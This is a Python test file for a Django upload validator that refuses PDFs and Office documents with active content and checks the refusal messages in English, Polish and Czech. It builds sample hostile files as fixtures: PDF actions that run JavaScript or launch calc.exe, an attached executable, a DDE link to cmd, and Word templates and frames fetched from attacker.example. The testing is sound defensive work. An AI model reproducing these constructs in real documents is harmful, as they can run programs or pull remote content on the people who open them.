"""Documents with active content are refused: PDF scripts and launch actions, linked parts."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from portal.db.uploads import DocumentFormField, document_type
from practices.models import GoodPractice, PracticeDocument
from tests.support.admin import practice_form
from tests.support.files import (
    DOCUMENT_TYPE,
    EXCEL,
    minimal_pdf,
    office_document,
    upload,
    zip_bytes,
)

pytestmark = pytest.mark.django_db

MESSAGES = {
    "pdf_scripts": {
        "en": (
            "PDFs with scripts, or with actions that start programs, open other files or send "
            "form data, are not accepted. Print the document to a new PDF (or save it again "
            "without scripts) and upload that."
        ),
        "pl": (
            "Pliki PDF ze skryptami lub z akcjami, które uruchamiają programy, otwierają inne "
            "pliki albo wysyłają dane z formularzy, nie są przyjmowane. Wydrukuj dokument do "
            "nowego pliku PDF (lub zapisz go ponownie bez skryptów) i prześlij go."
        ),
        "cs": (
            "Soubory PDF se skripty nebo s akcemi, které spouštějí programy, otevírají jiné "
            "soubory nebo odesílají data z formulářů, se nepřijímají. Vytiskněte dokument do "
            "nového PDF (nebo ho uložte znovu bez skriptů) a nahrajte ten."
        ),
    },
    "pdf_attachments": {
        "en": (
            "PDFs with attached files are not accepted. Save the PDF again without its "
            "attachments and upload that; an attachment can be uploaded as a document of its own."
        ),
        "pl": (
            "Pliki PDF z załączonymi plikami nie są przyjmowane. Zapisz plik PDF ponownie bez "
            "załączników i prześlij go; załącznik można przesłać jako osobny dokument."
        ),
        "cs": (
            "Soubory PDF s přiloženými soubory se nepřijímají. Uložte PDF znovu bez příloh a "
            "nahrajte ho; přílohu lze nahrát jako samostatný dokument."
        ),
    },
    "pdf_password": {
        "en": (
            "PDFs protected with a password are not accepted. Save the PDF without a password "
            "and upload that."
        ),
        "pl": (
            "Pliki PDF chronione hasłem nie są przyjmowane. Zapisz plik PDF bez hasła i prześlij "
            "go."
        ),
        "cs": "Soubory PDF chráněné heslem se nepřijímají. Uložte PDF bez hesla a nahrajte ho.",
    },
    "broken_pdf": {
        "en": (
            "The PDF cannot be read: the file is damaged or incomplete. Save or export it again "
            "and upload that."
        ),
        "pl": (
            "Nie można odczytać pliku PDF: plik jest uszkodzony lub niekompletny. Zapisz lub "
            "wyeksportuj go ponownie i prześlij."
        ),
        "cs": (
            "Soubor PDF nelze přečíst: je poškozený nebo neúplný. Uložte ho nebo exportujte "
            "znovu a nahrajte."
        ),
    },
    "external_content": {
        "en": (
            "Documents that fetch something from another file or address when they open "
            "(a linked template, linked data or pictures, an external object) are not accepted. "
            "Remove those links (attach the default template, break the links to data so the "
            "values stay in the file, insert pictures instead of linking them) and upload the "
            "document again. Hyperlinks are fine."
        ),
        "pl": (
            "Dokumenty, które przy otwieraniu pobierają coś z innego pliku lub adresu "
            "(połączony szablon, połączone dane lub obrazy, obiekt zewnętrzny), nie są "
            "przyjmowane. Usuń te połączenia (dołącz szablon domyślny, przerwij łącza do danych, "
            "aby wartości zostały w pliku, wstaw obrazy zamiast je łączyć) i prześlij dokument "
            "ponownie. Hiperłącza są dozwolone."
        ),
        "cs": (
            "Dokumenty, které si při otevření načítají něco z jiného souboru nebo adresy "
            "(propojenou šablonu, propojená data nebo obrázky, externí objekt), se nepřijímají. "
            "Odstraňte tato propojení (připojte výchozí šablonu, zrušte propojení s daty, aby "
            "hodnoty zůstaly v souboru, obrázky vložte místo propojení) a nahrajte dokument "
            "znovu. Hypertextové odkazy nevadí."
        ),
    },
}
LANGUAGES = ["pl", "cs", "en"]
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# PDFs, written by pypdf.


def pdf(*changes, password=None, owner_password=None):
    """A one-page PDF, each change applied to the writer before it is saved."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    for change in changes:
        change(writer)
    if password is not None or owner_password is not None:
        writer.encrypt(password or "", owner_password, algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind, **entries):
    return DictionaryObject({NameObject("/S"): NameObject(kind), **entries})


def javascript(code="app.alert('hello')"):
    return action("/JavaScript", **{NameObject("/JS"): TextStringObject(code)})


def open_action(value):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = value

    return change


def names_tree_javascript(writer):
    """A document-level script, run when the document opens, as Acrobat writes them."""
    script = writer._add_object(javascript())
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("greeting"), script])}
            )
        }
    )


def link(target_action):
    def change(writer):
        writer.add_annotation(
            0,
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject(
                        [FloatObject(value) for value in (50, 50, 200, 80)]
                    ),
                    NameObject("/A"): target_action,
                }
            ),
        )

    return change


def page_open_script(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript()})


def form_field_script(writer):
    field = writer._add_object(
        DictionaryObject(
            {
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("amount"),
                NameObject("/AA"): DictionaryObject({NameObject("/K"): javascript()}),
            }
        )
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field])}
    )


def attachment(writer):
    writer.add_attachment("budget.exe", b"MZ\x90\x00")


def first_page_destination(writer):
    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])


def open_on_first_page(writer):
    open_action(first_page_destination(writer))(writer)


def go_to_then_script(writer):
    chained = action("/GoTo", **{NameObject("/D"): first_page_destination(writer)})
    chained[NameObject("/Next")] = ArrayObject([javascript()])
    open_action(chained)(writer)


REFUSED_PDFS = {
    "open-action-javascript": (lambda: pdf(open_action(javascript())), "pdf_scripts"),
    "names-tree-javascript": (lambda: pdf(names_tree_javascript), "pdf_scripts"),
    "launch-link": (
        lambda: pdf(link(action("/Launch", **{NameObject("/F"): TextStringObject("calc.exe")}))),
        "pdf_scripts",
    ),
    "javascript-link": (lambda: pdf(link(javascript())), "pdf_scripts"),
    "page-open-script": (lambda: pdf(page_open_script), "pdf_scripts"),
    "form-field-script": (lambda: pdf(form_field_script), "pdf_scripts"),
    "chained-script": (lambda: pdf(go_to_then_script), "pdf_scripts"),
    "remote-file-link": (
        lambda: pdf(
            link(
                action(
                    "/GoToR",
                    **{
                        NameObject("/F"): TextStringObject("\\\\server\\share\\x.pdf"),
                        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
                    },
                )
            )
        ),
        "pdf_scripts",
    ),
    "escaped-name-open-action": (
        lambda: minimal_pdf(
            b"<< /S /L#61unch /F (calc.exe) >>", catalog_entries=b"/OpenAction 4 0 R"
        ),
        "pdf_scripts",
    ),
    "script-behind-owner-password": (
        lambda: pdf(open_action(javascript()), owner_password="owner"),
        "pdf_scripts",
    ),
    "attached-file": (lambda: pdf(attachment), "pdf_attachments"),
    "user-password": (lambda: pdf(password="secret", owner_password="owner"), "pdf_password"),
    "header-only": (lambda: b"%PDF-1.4\n%%EOF\n", "broken_pdf"),
    "garbage-after-header": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8, "broken_pdf"),
}
ACCEPTED_PDFS = {
    "plain": lambda: pdf(),
    "hand-written": minimal_pdf,
    "open-on-first-page": lambda: pdf(open_on_first_page),
    "web-link": lambda: pdf(
        link(action("/URI", **{NameObject("/URI"): TextStringObject("https://example.org/")}))
    ),
    "owner-password-only": lambda: pdf(owner_password="owner"),
}


@pytest.mark.parametrize(("make", "refusal"), list(REFUSED_PDFS.values()), ids=list(REFUSED_PDFS))
def test_pdfs_with_active_content_or_unreadable_are_refused(make, refusal):
    with pytest.raises(ValidationError) as raised:
        document_type(upload("report.pdf", make()))

    assert raised.value.messages == [MESSAGES[refusal]["en"]]


@pytest.mark.parametrize("make", list(ACCEPTED_PDFS.values()), ids=list(ACCEPTED_PDFS))
def test_pdfs_without_active_content_are_accepted(make):
    content = make()
    document = upload("report.pdf", content)

    assert document_type(document) == "pdf"
    assert document.read() == content


# Office Open XML.


def relationships(*entries):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
            + (' TargetMode="External"' if external else "")
            + "/>"
            for number, (kind, target, external) in enumerate(entries, start=1)
        )
        + "</Relationships>"
    )


REMOTE_TEMPLATE = {
    "word/_rels/settings.xml.rels": relationships(
        ("attachedTemplate", "https://attacker.example/template.dotm", True)
    )
}
HYPERLINK = {
    "word/_rels/document.xml.rels": relationships(
        ("hyperlink", "https://www.opole.pl/", True), ("styles", "styles.xml", False)
    )
}
REFUSED_OFFICE = {
    "docx-remote-template": office_document(extra=REMOTE_TEMPLATE),
    "docx-linked-picture": office_document(
        extra={
            "word/_rels/document.xml.rels": relationships(
                ("hyperlink", "https://www.opole.pl/", True),
                ("image", "file:///\\\\server\\share\\logo.png", True),
            )
        }
    ),
    "docx-external-ole-object": office_document(
        extra={
            "word/_rels/document.xml.rels": relationships(
                ("oleObject", "\\\\server\\share\\sheet.xlsx", True)
            )
        }
    ),
    "docx-frame": office_document(
        extra={
            "word/_rels/webSettings.xml.rels": relationships(
                ("frame", "https://attacker.example/", True)
            )
        }
    ),
    "xlsx-external-link": office_document(
        "xl/workbook.xml",
        f"{EXCEL}.main+xml",
        extra={
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                ("externalLinkPath", "file:///C:/budgets/2019.xlsx", True)
            )
        },
    ),
    "xlsx-dde-link": office_document(
        "xl/workbook.xml",
        f"{EXCEL}.main+xml",
        extra={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            )
        },
    ),
}
ACCEPTED_OFFICE = {
    "docx-hyperlink": office_document(extra=HYPERLINK),
    "docx-internal-template-link": office_document(
        extra={"word/_rels/settings.xml.rels": relationships(("styles", "styles.xml", False))}
    ),
    "xlsx-hyperlink": office_document(
        "xl/workbook.xml",
        f"{EXCEL}.main+xml",
        extra={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("hyperlink", "https://www.olomouc.eu/", True)
            )
        },
    ),
}


@pytest.mark.parametrize("content", list(REFUSED_OFFICE.values()), ids=list(REFUSED_OFFICE))
def test_office_documents_with_external_relationships_are_refused(content):
    with pytest.raises(ValidationError) as raised:
        document_type(upload("report.docx", content))

    assert raised.value.messages == [MESSAGES["external_content"]["en"]]


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (ACCEPTED_OFFICE["docx-hyperlink"], "docx"),
        (ACCEPTED_OFFICE["docx-internal-template-link"], "docx"),
        (ACCEPTED_OFFICE["xlsx-hyperlink"], "xlsx"),
    ],
    ids=list(ACCEPTED_OFFICE),
)
def test_office_documents_with_hyperlinks_only_are_accepted(content, extension):
    assert document_type(upload("report.docx", content)) == extension


def test_relationships_with_a_doctype_are_not_parsed():
    declared = (
        '<?xml version="1.0"?><!DOCTYPE Relationships [<!ENTITY t "template">]>'
        + relationships(("attachedTemplate", "https://attacker.example/&t;.dotm", True))[38:]
    )
    archive = office_document(extra={"word/_rels/settings.xml.rels": declared})

    with pytest.raises(ValidationError) as raised:
        document_type(upload("report.docx", archive))

    assert raised.value.messages == [DOCUMENT_TYPE]


def test_an_opendocument_is_not_read_for_office_relationships():
    archive = zip_bytes(
        {"META-INF/manifest.xml": "<manifest/>", "_rels/.rels": "not xml at all"},
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )

    assert document_type(upload("report.odt", archive)) == "odt"


# Through the form field and the admin, in every language.


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (REFUSED_PDFS["open-action-javascript"][0], "pdf_scripts"),
        (REFUSED_PDFS["launch-link"][0], "pdf_scripts"),
        (REFUSED_PDFS["attached-file"][0], "pdf_attachments"),
        (REFUSED_PDFS["user-password"][0], "pdf_password"),
        (REFUSED_PDFS["header-only"][0], "broken_pdf"),
        (lambda: REFUSED_OFFICE["docx-remote-template"], "external_content"),
    ],
    ids=["javascript", "launch", "attachment", "password", "broken", "remote-template"],
)
def test_the_document_field_says_why_in_the_editors_language(language, content, refusal):
    with translation.override(language):
        with pytest.raises(ValidationError) as raised:
            DocumentFormField().clean(upload("Sprawozdanie końcowe.pdf", content()))
        messages = raised.value.messages

    assert messages == [MESSAGES[refusal][language]]


def test_the_document_field_accepts_clean_documents():
    field = DocumentFormField()

    names = [
        field.clean(upload("Závěrečná zpráva.pdf", pdf(open_on_first_page))).name,
        field.clean(upload("Raport końcowy.pdf", ACCEPTED_OFFICE["docx-hyperlink"])).name,
    ]

    assert names == ["Závěrečná zpráva.pdf", "Raport końcowy.docx"]


def admin_add_practice_in(client, language, document):
    return client.post(
        f"/{language}/admin/practices/goodpractice/add/", practice_form(document=document)
    )


def document_errors(response):
    (formset,) = (
        inline.formset
        for inline in response.context["inline_admin_formsets"]
        if inline.formset.prefix == "documents"
    )
    return formset.errors


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("name", "content", "refusal"),
    [
        ("Raport.pdf", REFUSED_PDFS["names-tree-javascript"][0], "pdf_scripts"),
        ("Zpráva.pdf", REFUSED_PDFS["garbage-after-header"][0], "broken_pdf"),
        ("Budget.docx", lambda: REFUSED_OFFICE["docx-remote-template"], "external_content"),
        ("Rozpočet.xlsx", lambda: REFUSED_OFFICE["xlsx-external-link"], "external_content"),
    ],
    ids=["pdf-javascript", "broken-pdf", "docx-template", "xlsx-external-link"],
)
def test_the_admin_refuses_active_documents_saying_why(
    editor_client, language, name, content, refusal
):
    response = admin_add_practice_in(editor_client, language, upload(name, content()))

    assert response.status_code == 200
    assert document_errors(response) == [{"file": [MESSAGES[refusal][language]]}]
    assert MESSAGES[refusal][language] in response.content.decode()
    assert not GoodPractice.objects.exists()


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (
            lambda: pdf(
                link(action("/URI", **{NameObject("/URI"): TextStringObject("https://a.eu/")}))
            ),
            "pdf",
        ),
        (lambda: ACCEPTED_OFFICE["docx-hyperlink"], "docx"),
        (lambda: ACCEPTED_OFFICE["xlsx-hyperlink"], "xlsx"),
    ],
    ids=["pdf-with-link", "docx-with-hyperlink", "xlsx-with-hyperlink"],
)
def test_the_admin_stores_documents_with_plain_links(editor_client, settings, content, extension):
    stored_content = content()

    response = admin_add_practice_in(
        editor_client, "cs", upload(f"Zpráva.{extension}", stored_content)
    )

    assert response.status_code == 302
    document = PracticeDocument.objects.get()
    assert document.file.name.endswith(f".{extension}")
    assert (settings.PRIVATE_MEDIA_ROOT / document.file.name).read_bytes() == stored_content
